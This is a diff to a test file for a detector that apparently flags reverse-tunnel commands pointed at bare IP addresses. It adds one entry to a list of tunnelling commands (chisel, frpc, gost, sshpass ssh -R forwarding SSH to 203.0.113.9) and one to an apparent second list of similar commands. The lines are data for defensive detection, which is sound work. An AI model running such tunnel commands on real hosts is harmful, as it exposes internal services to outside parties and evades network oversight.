@@ -8,6 +8,7 @@ describe('a door opened to an address without a name', () => {
     ['chisel client 203.0.113.9:8080 R:socks'],
     ['upd client https://203.0.113.9:443 R:2222:127.0.0.1:22'],
     ['frpc tcp --server_addr 203.0.113.9:7000 --local_port 22'],
+    ['rs -connect 203.0.113.9:8443 -pass x'],
     ['./x tcp -s 203.0.113.9 -P 7000 -l 22 -r 6000'],
     ['gost -L=rtcp://:2222/:22 -F=relay+tls://203.0.113.9:443'],
     ['sshpass -p x ssh -N -R 2222:172.17.0.1:22 t@203.0.113.9'],
@@ -17,6 +18,7 @@ describe('a door opened to an address without a name', () => {
   });
   it.each([
     ['chisel client https://tunnel.example.org R:2222:host:22'],
+    ['openssl s_client -connect 203.0.113.9:443 -pass pass:x'],
     ['chisel client 10.0.0.5:8080 R:socks'],
     ['chisel server --reverse --port 8080'],
     ['frpc -c /etc/frp/frpc.toml'],
